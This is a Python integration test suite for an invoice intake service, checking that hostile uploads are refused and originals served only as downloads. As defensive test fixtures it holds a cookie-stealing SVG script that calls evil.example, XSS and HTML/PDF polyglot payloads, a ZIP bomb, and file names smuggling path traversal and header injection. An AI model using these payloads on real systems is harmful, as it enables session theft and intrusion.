"""Hostile uploads through the intake: a decompression bomb ends unreadable with its reason, a PDF with active
content is read with a warning, and no original is ever served to a browser to open inline.

A corpus of hostile files, made by the test itself, goes through the whole intake (issue 15, item 4): upload
slot, presigned PUT, the S3 event, recognition. Each ends ``unreadable`` with a reason a person understands, the
name it was sent with never becomes a path, and the system still serves requests afterwards. The unit tests
(tests/unit/recognition_intake) prove each refusal in detail and the memory a bomb costs in the recognition
worker.
"""

from __future__ import annotations

import io
import urllib.parse
import zipfile
from collections.abc import Iterator

import pytest
import requests

from boekstuk_local.testing import LocalAws
from tests.integration.conftest import snelstart_office, workflow_aws
from tests.integration.test_documents_api import document, upload
from tests.unit.recognition_intake import bombs, docs
from tests.unit.recognition_intake.test_chain import INVOICE_LINES
from tests.unit.recognition_intake.test_sniff import BILLION_LAUGHS, XXE, XXE_PARAMETER


def invoice_with_a_script_and_a_zip() -> bytes:
    """A readable one-page invoice that opens with JavaScript and has a ZIP archive appended."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("readme.txt", "x" * 100)
    text = b" ".join(b"(%s) '" % line.encode() for line in INVOICE_LINES)
    return bombs.one_page_pdf(bombs.stream(b"BT /F1 11 Tf 72 770 Td 14 TL " + text + b" ET"),
                              catalog=b"/OpenAction " + bombs.JS_ACTION, after_eof=archive.getvalue())


def zip_bomb() -> bytes:
    """A ZIP whose one member inflates to 64 MiB (64 kB on disk; the ratio is what makes a bomb, and deflating
    more would only cost the test time)."""
    packed = io.BytesIO()
    block = b"\0" * bombs.MIB
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("factuur.pdf", "w") as member:
        for _ in range(64):
            member.write(block)
    return packed.getvalue()


SVG_WITH_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                   b"<script>fetch('https://evil.example/'+document.cookie)</script><text>Factuur</text></svg>")
HTML_PDF_POLYGLOT = b"<html><script>alert(1)</script><!--\n" + docs.blank_pdf(1) + b"\n--></html>"
HTML_TEXT_PDF_POLYGLOT = b"<html><script>alert(2)</script><!--\n" + docs.text_pdf() + b"\n--></html>"
WINDOWS_PROGRAM = b"MZ\x90\x00\x03" + b"\0" * 59 + b"PE\0\0" + b"\0" * 400

CORPUS = [  # (filename, content type, content, words the reason has)
    ("xxe.xml", "application/xml", XXE, "entit"),
    ("xxe-parameter.xml", "application/xml", XXE_PARAMETER, "entit"),
    ("billion-laughs.xml", "application/xml", BILLION_LAUGHS, "entit"),
    ("deep.xml", "application/xml", bombs.nested_xml(100_000), "nesting too deep"),
    ("zip-bomb.pdf", "application/pdf", zip_bomb(), "ZIP"),
    ("catalogus.pdf", "application/pdf", docs.blank_pdf(5000), "5000 pages"),
    ("scan.png", "image/png", bombs.png_header_only(100_000, 100_000), "megapixels"),
    ("factuur.png", "image/png", SVG_WITH_SCRIPT, ""),
    ("factuur.pdf", "application/pdf", SVG_WITH_SCRIPT + b"<!-- 1 -->", ""),
    ("polyglot.pdf", "application/pdf", HTML_PDF_POLYGLOT, "web page"),
    ("polyglot-text.pdf", "application/pdf", HTML_TEXT_PDF_POLYGLOT, "web page"),
    ("factuur.pdf.exe", "application/pdf", WINDOWS_PROGRAM, ""),
    ("../../../etc/passwd\x00.pdf", "application/pdf", WINDOWS_PROGRAM + b"passwd", ""),
    ("..\\..\\boot.ini\r\nX-Evil: 1\x1b[31m.pdf", "application/pdf", SVG_WITH_SCRIPT + b"<!-- 2 -->", ""),
]


@pytest.fixture(scope="module")
def aws() -> Iterator[LocalAws]:
    with workflow_aws() as harness:
        yield harness


@pytest.fixture(scope="module")
def office(aws: LocalAws) -> dict[str, str]:
    linked = snelstart_office(aws)
    return {"office": linked.code, "token": linked.token, "administration_id": linked.administration_id}


def test_a_decompression_bomb_ends_unreadable_with_a_reason_a_person_understands(
        aws: LocalAws, office: dict[str, str]) -> None:
    bomb = bombs.flate_bomb_pdf(bombs.GIB)  # 1 MB that pdfium would inflate to 1 GB
    doc = upload(aws, office, bomb, "factuur.pdf", "application/pdf")
    assert doc["status"] == "unreadable", doc
    assert "expands to more than 256 MB" in doc["error"] and "refused for safety" in doc["error"]
    assert doc["history"][-1]["event"] == "unreadable"


def test_a_pdf_with_a_script_and_an_appended_zip_is_read_with_a_warning(aws: LocalAws,
                                                                         office: dict[str, str]) -> None:
    doc = upload(aws, office, invoice_with_a_script_and_a_zip(), "factuur.pdf", "application/pdf")
    assert doc["status"] == "awaiting_approval", doc
    assert doc["recognition"]["fields"]["invoice_number"] == "F2024-0815"
    (warning,) = [w for w in doc["recognition"]["warnings"] if w.startswith("suspicious_content: ")]
    assert "JavaScript" in warning and "after the end of the PDF (a ZIP archive)" in warning
    (proposal_warning,) = [w for w in doc["proposal"]["warnings"] if w["code"] == "suspicious_content"]
    assert proposal_warning["detail"] == warning.removeprefix("suspicious_content: ")


def content_response(aws: LocalAws, office: dict[str, str], document_id: str) -> requests.Response:
    status, headers, _ = aws.api_call("GET", f"/v1/offices/{office['office']}/documents/{document_id}/content",
                                      token=office["token"])
    assert status == 302
    return requests.get(headers["Location"], timeout=10)


def test_the_original_is_always_served_as_a_download(aws: LocalAws, office: dict[str, str]) -> None:
    content = invoice_with_a_script_and_a_zip()
    doc = upload(aws, office, content, "Factuur café.pdf", "application/pdf")
    served = content_response(aws, office, doc["document_id"])
    assert served.status_code == 200 and served.content == content
    disposition = served.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert 'filename="Factuur caf_.pdf"' in disposition  # plain ASCII for old clients
    assert "filename*=UTF-8''" + urllib.parse.quote("Factuur café.pdf") in disposition
    assert served.headers["Content-Type"] == "application/pdf"


def test_a_dropped_file_of_unknown_type_is_served_as_bytes(aws: LocalAws, office: dict[str, str]) -> None:
    # The S3 drop takes any object as it comes, with whatever Content-Type the scanner or script set.
    key = f"inbox/{office['office']}/{office['administration_id']}/pagina.html"
    html = b"<html><script>alert(document.cookie)</script></html>"
    aws.client("s3").put_object(Bucket=aws.environment["DOCUMENTS_BUCKET"], Key=key, Body=html,
                                ContentType="text/html")
    status, _, page = aws.api_call("GET", f"/v1/offices/{office['office']}/documents?administration_id="
                                          f"{office['administration_id']}&limit=200", token=office["token"])
    assert status == 200
    (dropped,) = [d for d in page["documents"] if d["filename"] == "pagina.html"]
    assert document(aws, office, dropped["document_id"])["status"] == "unreadable"
    served = content_response(aws, office, dropped["document_id"])
    assert served.headers["Content-Type"] == "application/octet-stream"
    assert served.headers["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize(("filename", "content_type", "content", "says"), CORPUS,
                         ids=[repr(c[0])[1:-1][:40] for c in CORPUS])
def test_each_hostile_file_ends_unreadable_with_a_clear_reason(aws: LocalAws, office: dict[str, str], filename: str,
                                                               content_type: str, content: bytes, says: str) -> None:
    doc = upload(aws, office, content, filename, content_type)
    assert doc["status"] == "unreadable", doc
    assert doc["error"] and len(doc["error"]) > 20 and says in doc["error"], doc["error"]
    assert "Traceback" not in doc["error"] and "Error(" not in doc["error"], doc["error"]
    assert doc["history"][-1]["event"] == "unreadable"
    name = doc["filename"]
    assert "/" not in name and "\\" not in name and not name.startswith(".")
    assert not any(ord(c) < 32 or ord(c) == 127 for c in name), repr(name)
    assert aws.api_call("GET", "/v1/health")[0] == 200
    print(f"\nhostile file {filename!r} ({len(content):,} bytes): unreadable: {doc['error']}")


def test_an_svg_is_refused_before_it_is_uploaded(aws: LocalAws, office: dict[str, str]) -> None:
    status, _, body = aws.api_call(
        "POST", f"/v1/offices/{office['office']}/administrations/{office['administration_id']}/documents",
        {"filename": "factuur.svg", "content_type": "image/svg+xml"}, token=office["token"])
    assert (status, body["code"]) == (422, "unsupported_content_type"), body
